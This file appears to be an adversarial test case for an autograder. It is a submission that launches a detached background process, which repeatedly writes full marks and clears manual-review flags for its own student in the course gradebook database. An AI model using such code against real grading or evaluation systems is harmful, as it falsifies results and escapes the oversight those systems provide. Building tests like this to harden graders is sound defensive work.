# ---
# class: editing the gradebook
# tries: writes full marks for itself into the gradebook, now and from a process that waits
# success: any point
# ---

# %% solution="total"
import subprocess
import sys

code = """
import sqlite3, time
for _ in range(40):
    try:
        base = sqlite3.connect("file:@COURSE@/gradebook.db?mode=rw", uri=True, timeout=1)
        base.execute("update grade set auto_score = 10, manual_score = 3, needs_manual_grade = 0 where notebook_id in "
            "(select n.id from submitted_notebook n join submitted_assignment a on n.assignment_id = a.id "
            "where a.student_id = '@NAME@')")
        base.commit()
        base.close()
    except sqlite3.Error:
        pass
    time.sleep(0.25)
"""
subprocess.Popen([sys.executable, "-c", code], start_new_session=True)
